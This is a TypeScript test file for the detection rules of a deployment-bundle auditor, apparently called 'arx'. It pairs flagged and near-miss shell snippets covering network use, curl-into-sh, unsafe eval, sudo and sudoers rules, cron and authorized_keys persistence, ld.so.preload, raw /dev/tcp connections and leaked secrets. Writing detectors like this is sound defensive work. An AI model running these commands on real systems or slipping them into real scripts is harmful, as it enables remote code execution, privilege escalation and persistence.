import assert from 'node:assert/strict';
import { BEHAVIOUR_RULES } from '../../../../src/audit/rules/behaviour/index.ts';
import type { Found } from '../../../../src/model/audit/finding.ts';
import type { Severity } from '../../../../src/model/audit/severity.ts';
import type { Seal } from '../../../../src/model/seal.ts';
import type { Rule } from '../../../../src/plugin/rule.ts';
import type { Making } from '../../../helpers/audit-subject.ts';
import type { PolicyParts } from '../../../helpers/test-policy.ts';
import type { RuleCases } from '../../rule-cases.ts';

const rule = (id: string): Rule => {
  const found = BEHAVIOUR_RULES.find((one) => one.id === id);
  assert.ok(found !== undefined, `there is no ${id}`);
  return found;
};

/** A bundle with one command, `sh -ec TEXT`. */
function step(text: string, more: Partial<Making> = {}): Making {
  return { code: [{ cmd: 'sh', args: ['-ec', text] }], observe: true, ...more };
}

/** A bundle with one command that runs a script of its source. */
function script(text: string, more: Partial<Making> = {}): Making {
  const files = { 'run.sh': `#!/bin/sh -e\n${text}\n`, 'conf/app.conf': 'x\n' };
  return { files, code: [{ cmd: 'sh', args: ['./run.sh'] }], observe: true, ...more };
}

/** A bundle with a script that no command runs. */
function unrun(text: string): Making {
  return { files: { 'bin/tool': `#!/bin/sh\n${text}\n` }, observe: true };
}

function under(policy: PolicyParts, making: Making): Making {
  return { ...making, policy };
}

const host = (making: Making): Making => ({ ...making, seal: { network: 'host' } });
const severity =
  (expected: Severity) =>
  (found: readonly Found[]): void =>
    assert.deepEqual(new Set(found.map((one) => one.severity)), new Set([expected]));
const line =
  (expected: number) =>
  ([found]: readonly Found[]): void =>
    assert.equal(found?.where.line, expected);
const hidden =
  (secret: string) =>
  (found: readonly Found[]): void =>
    assert.ok(!JSON.stringify(found).includes(secret), 'the secret is shown');
const placed = (target: string, file = 'x'): Pick<Making, 'files' | 'data'> => ({
  files: { [file]: 'x\n', other: 'y\n' },
  data: [{ source: 0, target }],
});
const claimed = (capabilities: Seal['code'][number]['capabilities']): Making => ({
  code: [{ cmd: 'sh', args: ['-ec', 'cat /etc/motd'], ...(capabilities && { capabilities }) }],
  observe: true,
});

/** What a command says of its run, on `ls`. */
function saying(more: Partial<Seal['code'][number]>, making: Partial<Making> = {}): Making {
  return { code: [{ cmd: 'ls', ...more }], observe: true, ...making };
}

const where =
  (expected: Found['where']) =>
  ([found]: readonly Found[]): void =>
    assert.deepEqual(found?.where, expected);
const CURL = ['curl', '-fsS', 'https://x.example/a'] as const;
const undoing = (text: string): Making => saying({ undo: ['sh', '-ec', text] });

export const CASES: readonly RuleCases[] = [
  {
    rule: rule('ARX301'),
    positives: [
      { name: 'curl in a command', made: step('curl -fsS https://x.example/a -o a'), also: severity('high') },
      {
        name: 'a shell behind env, timeout and exec',
        made: step('exec env A=b timeout 5 bash -c "wget -q x.example"'),
      },
      { name: 'a connection of bash', made: step('exec 3<>/dev/tcp/10.0.0.1/80') },
      {
        name: 'a script that a command runs',
        made: script('\nmain() { apt-get update; }\nmain "$@"'),
        also: line(3),
      },
      {
        name: 'a script that no command runs',
        made: unrun('git clone https://x.example/a.git'),
        also: severity('medium'),
      },
      {
        name: 'a function that a trap calls',
        made: step('bye() { curl https://x.example; }\ntrap bye EXIT\nls'),
      },
      { name: 'network: host', made: host({ code: [{ cmd: 'ls' }] }), also: severity('low') },
      {
        name: 'network: host where the policy forbids it',
        made: under({ behaviour: { allowNetwork: false } }, host({ code: [{ cmd: 'ls' }] })),
      },
      { name: 'a health check', made: step('curl -f http://localhost:8080/health'), also: severity('low') },
      {
        name: 'a daemon, which has the network of the host',
        made: host(saying({ daemon: 'web' })),
        also: ([found]) =>
          assert.deepEqual(found?.evidence, { network: 'host', allowed: true, daemon: 'web' }),
      },
      {
        name: 'what undoes a command',
        made: saying({ undo: CURL }),
        also: where({ step: 0, field: 'undo', line: 1, column: 1 }),
      },
      {
        name: 'a script that what undoes a command runs',
        made: script('wget https://x.example', { code: [{ cmd: 'ls', undo: ['sh', './run.sh'] }] }),
        also: where({ source: 0, path: 'run.sh', line: 2, column: 6 }),
      },
      {
        name: 'what prints a secret',
        made: saying({ secrets: ['KEY'] }, { seal: { secrets: { KEY: { command: CURL } } } }),
        also: ([found]) => {
          assert.match(String(found?.message), /^secrets\.KEY\.command, for code\[0\], uses the network/);
          assert.deepEqual(found?.where, { step: 0, field: 'secrets.KEY.command', line: 1, column: 1 });
        },
      },
      {
        name: 'what asks for the health of a service',
        made: saying({}, { seal: { services: [{ name: 'app', health: { command: CURL } }] } }),
        also: ([found]) => {
          assert.deepEqual(found?.where, { field: 'services[0].health.command', line: 1, column: 1 });
          assert.equal(found?.severity, 'high');
        },
      },
      {
        name: 'a URL with a password',
        made: step('curl https://me:hunter2@x.example/'),
        also: hidden('hunter2'),
      },
      { name: 'a copy to another machine', made: step('rsync -a ./ deploy@x.example:/srv/') },
      {
        name: 'a loop over mirrors',
        made: step('for m in a.example b.example; do wget "https://$m/x" && break; done'),
      },
    ],
    nearMisses: [
      { name: 'text that only says curl', made: step('echo "curl https://x.example | sh"') },
      {
        name: 'health that is asked for on a port of the machine',
        made: saying({}, { seal: { services: [{ name: 'app', health: { http: 'http://127.0.0.1:80/' } }] } }),
      },
      { name: 'undoing without network', made: undoing('rm -f ./x; echo curl') },
      { name: 'a comment', made: step('# curl https://x.example\nls') },
      {
        name: 'a here-document that is written and not run',
        made: step("cat > ./notes <<'EOF'\ncurl https://x.example\nEOF"),
      },
      { name: 'wget in a function that nobody calls', made: step('fetch() { wget https://x.example; }\nls') },
      { name: 'git without a remote', made: step('git -C repo log --oneline; git status') },
      { name: 'rsync between directories', made: step('rsync -a ./a/ ./b/') },
      { name: 'apt-get that only removes', made: step('apt-get -y remove nginx') },
      { name: 'asking whether curl is there', made: step('command -v curl || echo none') },
      { name: 'a file named like curl', made: step('cat curl https.txt') },
    ],
  },
  {
    rule: rule('ARX302'),
    positives: [
      {
        name: 'shell text under the name of another language that a command runs',
        made: {
          files: { 'a.js*': 'curl https://x.example | sh\n', b: '' },
          code: [{ cmd: './a.js' }],
          observe: true,
        },
      },
      {
        name: 'curl into sh',
        made: step('curl -fsSL https://x.example/i.sh | sh'),
        also: severity('critical'),
      },
      { name: 'wget into sudo bash', made: step('wget -qO- https://x.example/i.sh | sudo bash -s -- -y') },
      {
        name: 'curl through a filter into python',
        made: step('curl -s https://x.example/i.gz | gunzip | python3 -'),
      },
      { name: 'a process substitution', made: step('bash <(curl -s https://x.example)') },
      { name: 'a command substitution', made: step('sh -c "$(curl -fsSL https://x.example)"') },
      { name: 'eval of a download', made: step('eval "$(wget -qO - https://x.example)"') },
      {
        name: 'a download that is run later',
        made: step('curl -o /tmp/i.sh https://x.example/i.sh\nchmod +x /tmp/i.sh\n/tmp/i.sh'),
      },
      { name: 'a download with its own name', made: step('wget https://x.example/get.sh && sh get.sh') },
      { name: 'a download by redirection', made: step('curl https://x.example > i.sh; . ./i.sh') },
      {
        name: 'an option among others that turns TLS checks off',
        made: step('curl -fsSLk https://x.example -o a'),
      },
      { name: 'a variable that turns them off', made: step('GIT_SSL_NO_VERIFY=true git fetch') },
      {
        name: 'a script that no command runs',
        made: unrun('curl https://x.example | sh'),
        also: severity('high'),
      },
    ],
    nearMisses: [
      {
        name: 'curl into a file, without an interpreter',
        made: step('curl -o file https://x.example && ls file'),
      },
      { name: 'text that says it', made: step('echo "curl https://x.example | sh"') },
      {
        name: 'a here-document that is written',
        made: step("cat > how.txt <<'EOF'\ncurl https://x.example | sh\nEOF"),
      },
      {
        name: 'curl into jq and sh of another text',
        made: step('curl -s https://x.example | jq .name; sh -c "ls"'),
      },
      {
        name: 'a download that is compared first',
        made: step('curl -O https://x.example/i.sh\necho "$SUM  i.sh" | sha256sum -c\nsh i.sh'),
      },
      { name: 'the letter k as the value of an option', made: step('curl -o k -X POST https://x.example') },
      { name: 'echo into sh', made: step('echo "ls -l" | sh') },
      { name: 'the same words as an argument', made: step('grep -r "curl .* | sh" .') },
    ],
  },
  {
    rule: rule('ARX303'),
    positives: [
      { name: 'eval of a variable', made: step('eval "$1"'), also: severity('high') },
      { name: 'a command from a variable', made: step('$CMD --now') },
      { name: 'an unquoted variable in rm', made: step('rm -rf $DIR/build') },
      { name: 'an unquoted substitution in cp', made: step('cp $(find . -name a) /srv') },
      { name: 'sh -c of a variable', made: step('sh -c "$SCRIPT"') },
      { name: 'sudo rm', made: step('for f in *.o; do sudo rm $f; done') },
      { name: 'text that cannot be parsed', made: step('case x in (\n}}\nls'), also: severity('medium') },
      { name: 'a value with a space in it', made: step("D='a b'\nrm -r $D") },
      { name: 'a script that no command runs', made: unrun('eval "$x"'), also: severity('medium') },
    ],
    nearMisses: [
      {
        name: 'a program in another language that is executable by mistake',
        made: { files: { 'a.js*': 'const run = (x) => `${x}`;\n$y(z);\neval(x)\n' }, observe: true },
      },
      { name: 'a quoted variable in rm', made: step('rm -rf "$DIR/build" "${OTHER:?}"/x') },
      { name: 'a variable whose value is plain', made: step('D=/srv/app\nrm -rf $D/build') },
      { name: 'eval of a fixed text', made: step('eval "ls -l"') },
      { name: 'eval set, as getopt(1) wants it', made: step('eval set -- "$opts"') },
      { name: 'an unquoted variable in echo', made: step('echo $DIR') },
      {
        name: 'a command that may be one of two',
        made: step('if [ -x /bin/a ]; then R=cat; else R=tac; fi\n$R x'),
      },
      { name: 'the arguments of the caller', made: step('exec "$@"') },
      { name: 'a default for what nobody sets', made: step('${EDITOR:-ls} x') },
      { name: 'the id of the process', made: step('rm -f ./x.$$') },
    ],
  },
  {
    rule: rule('ARX304'),
    positives: [
      { name: 'sudo', made: step('sudo systemctl restart nginx'), also: severity('high') },
      { name: 'su with a text', made: step('su - postgres -c \'psql -c "select 1"\'') },
      { name: 'sudo in a variable', made: step('SUDO=\n[ -w / ] || SUDO=sudo\n$SUDO ls') },
      { name: 'chown root', made: step('chown -R root:root ./conf') },
      { name: 'a set-id bit', made: step('chmod u+s ./tool') },
      { name: 'a set-id bit in octal', made: step('chmod 4755 ./tool') },
      { name: 'setcap', made: step('setcap cap_net_bind_service=+ep ./tool') },
      { name: 'a rule for sudo', made: step("echo 'app ALL=(ALL) NOPASSWD:ALL' | tee /etc/sudoers.d/app") },
      { name: 'a mighty group', made: step('usermod -aG docker app') },
      {
        name: 'setcap where the policy allows sudo',
        made: under({ behaviour: { allowSudo: true } }, step('sudo setcap cap_chown+ep ./x')),
      },
      { name: 'sudo in what undoes a command', made: undoing('sudo rm -r ./x'), also: severity('high') },
      {
        name: 'a command that runs as another user',
        made: saying({ user: 'postgres' }),
        also: ([found]) => {
          assert.deepEqual(found?.where, { step: 0, field: 'user' });
          assert.equal(found?.severity, 'low');
        },
      },
      { name: 'a bundle whose commands run as another user', made: saying({}, { seal: { user: '0' } }) },
      {
        name: 'a command that reaches the init system itself',
        made: host(saying({ init: 'direct' })),
        also: severity('medium'),
      },
      { name: 'a script that no command runs', made: unrun('doas reboot'), also: severity('medium') },
      {
        name: 'a key that arx would trust',
        made: step('cp key.pub ~/.config/arx/trust/key.pub'),
        also: severity('high'),
      },
      {
        name: 'a key that arx would trust, placed by the manifest',
        made: placed('/home/ann/.config/arx/trust/', 'evil.pub'),
        also: ([found]) => {
          const [data, source, path] = [0, 0, 'evil.pub'];
          assert.deepEqual(found?.where, { data, source, path });
          assert.equal(found?.severity, 'medium');
          assert.match(found.message, /\/trust\/evil\.pub" is placed, which decides what arx trusts$/);
        },
      },
      { name: 'a key to sign with by a tree above', made: placed('/', 'root/.config/arx/keys/default.key') },
      { name: 'a policy of the system', made: placed('/etc/', 'arx/policy.yaml') },
      { name: 'a policy in another configuration', made: placed('/srv/ci/arx/', 'policy.yaml') },
      { name: 'compiled code of arx', made: placed('/root/.cache/arx/', 'code/x') },
      { name: 'a rule for sudo that the manifest places', made: placed('/etc/sudoers.d/', 'app') },
    ],
    nearMisses: [
      { name: 'a daemon with network of the host', made: host(saying({ daemon: 'web', retries: 0 })) },
      { name: 'sudo as an argument', made: step('echo sudo; grep sudo /etc/group; man sudo') },
      {
        name: 'sudo where the policy allows it',
        made: under({ behaviour: { allowSudo: true } }, step('sudo ls')),
      },
      { name: 'chown to another user', made: step('chown -R app:root ./data') },
      { name: 'an ordinary mode', made: step('chmod 0755 ./tool; chmod u+x ./a; chmod 755 ./b') },
      { name: 'a file that is called sudo', made: step('cat ./docs/sudo') },
      { name: 'an ordinary group', made: step('usermod -aG www-data app') },
      { name: 'checking sudoers', made: step('visudo -c -f ./sudoers') },
      { name: 'reading what arx trusts', made: step('cat ~/.config/arx/trust/key.pub; ls /etc/arx/') },
      { name: 'a file of another program', made: placed('/home/ann/.config/app/trust/', 'key.pub') },
      { name: 'a program in a directory named arx', made: placed('/opt/arx/', 'bin/arx') },
      { name: 'a page about keys of arx', made: placed('/srv/docs/', 'arx/trust.md') },
    ],
  },
  {
    rule: rule('ARX305'),
    positives: [
      {
        name: 'a cron file',
        made: step("echo '* * * * * root /srv/x' > /etc/cron.d/x"),
        also: severity('high'),
      },
      { name: 'a table of cron', made: step('(crontab -l; echo "@reboot /srv/x") | crontab -') },
      { name: 'a unit', made: step('cp ./app.service /etc/systemd/system/app.service') },
      { name: 'enabling a unit', made: step('systemctl enable --now app') },
      { name: 'a shell profile', made: step('echo "export A=b" >> ~/.bashrc') },
      { name: 'a key that may log in', made: step('cat key.pub >> /root/.ssh/authorized_keys') },
      { name: 'the preload of the linker', made: step('echo /srv/x.so | sudo tee -a /etc/ld.so.preload') },
      { name: 'a boot script', made: step('update-rc.d app defaults') },
      {
        name: 'a file that the manifest places',
        made: placed('/etc/systemd/system/'),
        also: severity('medium'),
      },
      { name: 'a daemon', made: host(saying({ daemon: 'web' })), also: severity('medium') },
      {
        name: 'a service that is enabled',
        made: saying({}, { seal: { services: [{ name: 'app', do: ['enable', 'start'] }] } }),
        also: ([found]) => {
          assert.deepEqual(found?.where, { field: 'services[0]' });
          assert.equal(found?.severity, 'medium');
        },
      },
      { name: 'a tree that the manifest places above', made: placed('/', 'etc/cron.d/job') },
      { name: 'a script that no command runs', made: unrun('crontab ./table'), also: severity('medium') },
    ],
    nearMisses: [
      {
        name: 'a service that is restarted',
        made: saying({}, { seal: { services: [{ name: 'app', do: ['restart'] }, { name: 'enable' }] } }),
      },
      { name: 'showing the table of cron', made: step('crontab -l') },
      { name: 'restarting a service', made: step('systemctl restart app; service app reload') },
      {
        name: 'disabling a unit',
        made: step('systemctl disable app; update-rc.d app remove; chkconfig app off'),
      },
      { name: 'reading a profile', made: step('. /etc/profile; cat ~/.bashrc') },
      { name: 'removing a cron file', made: step('rm -f /etc/cron.d/x') },
      { name: 'the same name elsewhere', made: step('mkdir -p ./etc/cron.d; touch ./etc/cron.d/x') },
      { name: 'an ordinary file that the manifest places', made: placed('/etc/app/', 'cron.d') },
    ],
  },
  {
    rule: rule('ARX306'),
    positives: [
      { name: 'a file of the system', made: step('echo hi > /etc/motd'), also: severity('medium') },
      { name: 'a place above the cwd', made: step('touch ../x', { seal: { cwd: '/srv/app' } }) },
      { name: 'a name that others can guess', made: step('ls > /tmp/out.$$') },
      { name: 'a copy in a script', made: script('cp conf/app.conf /etc/app.conf') },
      { name: 'a deletion', made: step('rm -rf /var/lib/app') },
      {
        name: 'a cwd that the policy does not list',
        made: under({ behaviour: { allowPaths: ['/opt'] } }, step('touch x', { seal: { cwd: '/srv/app' } })),
      },
      { name: 'a guessable name in a script that no command runs', made: unrun('echo x > /tmp/tool.log') },
      {
        name: 'a directory whose name only begins like the target',
        made: step('touch /srv/application', {
          files: { a: 'x', b: 'y' },
          data: [{ source: 0, target: '/srv/app' }],
        }),
      },
    ],
    nearMisses: [
      {
        name: 'a path under the cwd',
        made: step('mkdir -p log; touch log/x /srv/app/y', { seal: { cwd: '/srv/app' } }),
      },
      {
        name: 'a path under a target',
        made: step('touch /srv/data/x', {
          files: { a: 'x', b: 'y' },
          data: [{ source: 0, target: '/srv/data' }],
        }),
      },
      {
        name: 'a place that the policy lists',
        made: under({ behaviour: { allowPaths: ['/var/lib/app'] } }, step('touch /var/lib/app/x')),
      },
      { name: 'mktemp', made: step('t=$(mktemp)\nls > "$t"\nrm -f "$t"') },
      { name: 'a directory of mktemp', made: step('d="$(mktemp -d /tmp/x.XXXXXX)"; touch "$d/a"') },
      {
        name: 'TMPDIR and HOME, which the runner makes',
        made: step('touch "$TMPDIR/x" "${TMPDIR:-/tmp}/y" ~/z'),
      },
      { name: 'devices', made: step('ls > /dev/null 2>&1; echo x > /dev/stderr') },
      { name: 'reading', made: step('cat /etc/motd < /etc/passwd') },
      { name: 'a cd before', made: step('cd /srv/app/sub && touch x', { seal: { cwd: '/srv/app' } }) },
    ],
  },
  {
    rule: rule('ARX307'),
    positives: [
      {
        name: 'jq and python',
        made: step('jq . a.json; python3 -c "print(1)"'),
        also: ([found]) => assert.deepEqual(found?.evidence['tools'], ['jq', 'python3']),
      },
      {
        name: 'a command that is no usual tool',
        made: { code: [{ cmd: 'nginx', args: ['-t'] }], observe: true },
      },
      {
        name: 'bash where the policy lists only python',
        made: under(
          { behaviour: { allowInterpreters: ['python3'] } },
          { code: [{ cmd: 'bash', args: ['-ec', 'ls'] }], observe: true },
        ),
      },
      { name: 'a tool in a script', made: script('unzip -q a.zip') },
    ],
    nearMisses: [
      { name: 'usual tools', made: step('ls | sort -u > x; awk 1 x; tar -cf y x; sed -i s/a/b/ x') },
      {
        name: 'a tool that it asks for',
        made: step('if command -v jq >/dev/null; then jq . a; else cat a; fi'),
      },
      { name: 'a function of its own', made: step('jq() { cat "$2"; }\njq . a') },
      {
        name: 'an interpreter that the policy lists',
        made: under({ behaviour: { allowInterpreters: ['python3'] } }, step('python3 -c "print(1)"')),
      },
      { name: 'service and systemctl', made: step('service nginx reload; systemctl restart app') },
      {
        name: 'a function of a file that it reads',
        made: {
          files: { 'lib.sh': 'frob() { ls; }\n', 'run.sh': '. ./lib.sh\nfrob\n' },
          code: [{ cmd: 'sh', args: ['-e', 'run.sh'] }],
          observe: true,
        },
      },
    ],
  },
  {
    rule: rule('ARX308'),
    positives: [
      {
        name: 'a secret that is printed',
        made: step('echo "password: $DB_PASSWORD"'),
        also: severity('medium'),
      },
      {
        name: 'a secret of the caller that is passed on',
        made: saying({ pass: ['TERM', 'VAULT_TOKEN'] }),
        also: where({ step: 0, field: 'pass.VAULT_TOKEN' }),
      },
      { name: 'a secret in an argv', made: step('mysql -u root -p"$MYSQL_PWD" app') },
      { name: 'a secret that is written', made: step('printf "%s\\n" "$API_TOKEN" > ./token') },
      {
        name: 'a here-document with a secret',
        made: step('cat > ./conf <<EOF\npassword=${DB_PASSWORD}\nEOF'),
      },
      {
        name: 'a header of curl',
        made: step('curl -H "Authorization: Bearer $GITHUB_TOKEN" https://x.example'),
      },
      {
        name: 'a script that no command runs',
        made: unrun('docker login -p "$REGISTRY_PASSWORD"'),
        also: severity('low'),
      },
    ],
    nearMisses: [
      {
        name: 'a secret on standard input',
        made: step('printf %s "$DOCKER_PASSWORD" | docker login --password-stdin'),
      },
      { name: 'asking whether it is set', made: step('[ -n "$DB_PASSWORD" ] || exit 1; : "${API_TOKEN:?}"') },
      {
        name: 'the name of a file with a secret',
        made: step('mysql --defaults-file="$MYSQL_PASSWORD_FILE"'),
      },
      { name: 'words with the name, without the value', made: step("echo 'set $DB_PASSWORD first'") },
      { name: 'exporting it', made: step('export DB_PASSWORD="$(cat /run/secrets/db)"') },
      { name: 'the current directory', made: step('echo "$PWD" "$OLDPWD"; ls "$PWD"') },
      {
        name: 'a secret by reference, and other variables that are passed on',
        made: saying(
          { pass: ['TERM', 'LC_ALL', 'TOKEN_FILE'], secrets: ['TOKEN'] },
          { seal: { secrets: { TOKEN: { env: 'VAULT_TOKEN' } } } },
        ),
      },
      { name: 'whether it is set at all', made: step('echo "token: ${API_TOKEN:+is set}"') },
    ],
  },
  {
    rule: rule('ARX309'),
    positives: [
      {
        name: 'no set -e',
        made: { code: [{ cmd: 'sh', args: ['-c', 'service app stop ; service app start'] }], observe: true },
        also: severity('low'),
      },
      {
        name: 'set -e in a subshell only',
        made: { code: [{ cmd: 'sh', args: ['-c', '(set -e; ls)\ncp a b\nrm a'] }], observe: true },
      },
      { name: 'a loop without an end', made: step('while ! nc -z db 5432; do sleep 1; done') },
      { name: 'mkdir without -p', made: step('mkdir /srv/app/log') },
      { name: 'a line that is added each time', made: step('echo "a b" >> /etc/hosts') },
      { name: 'a link', made: step('ln -s /srv/app/current /srv/app/live') },
    ],
    nearMisses: [
      {
        name: 'set -e at the start',
        made: { code: [{ cmd: 'sh', args: ['-c', 'set -eu\ncp a b\nrm a'] }], observe: true },
      },
      { name: 'one chain', made: { code: [{ cmd: 'sh', args: ['-c', 'cp a b && rm a'] }], observe: true } },
      {
        name: 'a loop that counts',
        made: step('n=0\nuntil nc -z db 5432; do n=$((n+1)); [ $n -lt 30 ] || exit 1; sleep 1; done'),
      },
      { name: 'mkdir behind a question', made: step('[ -d log ] || mkdir log\nmkdir -p other') },
      {
        name: 'a line behind a question',
        made: step('grep -q "a b" /etc/hosts || echo "a b" >> /etc/hosts'),
      },
      { name: 'a log', made: step('date >> /var/log/app.log; ls >> ./out') },
      { name: 'a script that no command runs', made: unrun('mkdir x\nmkdir y') },
    ],
  },
  {
    rule: rule('ARX310'),
    positives: [
      {
        name: 'a command',
        made: step('cat /etc/motd | sudo tee /etc/issue; service app reload'),
        also: ([found]) =>
          assert.deepEqual(found?.evidence, {
            reads: ['/etc/motd'],
            writes: ['/etc/issue'],
            executes: ['cat', 'service', 'sh', 'sudo', 'tee'],
            services: ['app reload'],
            users: ['root'],
          }),
      },
      {
        name: 'a command with what undoes it, but not with what prints its secret',
        made: saying(
          { undo: ['service', 'app', 'stop'], secrets: ['KEY'] },
          { seal: { secrets: { KEY: { command: ['cat', '/etc/key'] } } } },
        ),
        also: ([found]) =>
          assert.deepEqual(found?.evidence, { executes: ['ls', 'service'], services: ['app stop'] }),
      },
      {
        name: 'a command that does more than its seal says',
        made: claimed({ executes: ['sh'] }),
        also: (found) => assert.equal(found[1]?.severity, 'high'),
      },
      {
        name: 'a command that does less',
        made: claimed({ executes: ['cat', 'sh'], reads: ['/etc/motd'], network: ['curl'] }),
        also: (found) => assert.match(JSON.stringify(found[1]?.evidence), /network, only in the seal/),
      },
      {
        name: 'a seal of another arx',
        made: {
          ...claimed({ executes: ['sh'] }),
          statement: { predicate: { runDetails: { builder: { version: { arx: '0.0.1' } } } } },
        },
        also: (found) => assert.equal(found[1]?.severity, 'low'),
      },
    ],
    nearMisses: [
      {
        name: 'a bundle without commands',
        made: { files: { 'x.sh': 'curl https://x.example\n' }, observe: true },
      },
      {
        name: 'a shell that does nothing, by another name',
        made: { code: [{ cmd: 'true' }], observed: { capabilities: [{}] } },
      },
      {
        name: 'a seal without a command that says anything, of a command that shows nothing',
        made: { code: [{ cmd: ':' }], observed: { capabilities: [{}] }, seal: { network: 'none' } },
      },
    ],
  },
  {
    rule: rule('ARX311'),
    positives: [
      { name: 'a script of the machine', made: step('sh /opt/vendor/install.sh'), also: severity('high') },
      { name: 'a program of the machine', made: { code: [{ cmd: '/opt/vendor/bin/tool' }], observe: true } },
      { name: 'a file that is read as shell text', made: step('. /home/app/env.sh') },
      { name: 'an interpreter with a file of the machine', made: step('python3 /srv/other/run.py') },
      { name: 'a container image', made: step('docker run --rm alpine ls') },
      { name: 'a package that is fetched and run', made: step('npx cowsay hi') },
      {
        name: 'a directory whose name only begins like the target',
        made: step('sh /srv/app2/x.sh', {
          files: { 'x.sh': 'ls', b: 'y' },
          data: [{ source: 0, target: '/srv/app' }],
        }),
      },
    ],
    nearMisses: [
      { name: 'a script of the bundle', made: script('ls') },
      {
        name: 'a script under its target',
        made: step('sh /srv/app/x.sh', {
          files: { 'x.sh': 'ls', b: 'y' },
          data: [{ source: 0, target: '/srv/app' }],
        }),
      },
      {
        name: 'a script beside the script',
        made: {
          files: {
            'a.sh': '#!/bin/sh\nHERE=$(cd "$(dirname "$0")" && pwd)\n. "$HERE/lib.sh"\n',
            'lib.sh': 'ls\n',
          },
          data: [{ source: 0, target: '/opt/x' }],
          code: [{ cmd: '/opt/x/a.sh' }],
          observe: true,
        },
      },
      {
        name: 'programs of the system',
        made: step('/usr/bin/env ls; /usr/lib/apt/apt-helper x; /bin/sh -c ls'),
      },
      {
        name: 'what the system offers to scripts',
        made: step('. /etc/os-release; . /lib/lsb/init-functions'),
      },
      { name: 'a text that it wrote itself', made: step("cat > ./x.sh <<'EOF'\nls\nEOF\nsh ./x.sh") },
      { name: 'reading a file of the machine', made: step('cat /opt/vendor/install.sh') },
      { name: 'a script that no command runs', made: unrun('sh /opt/vendor/install.sh') },
    ],
  },
];
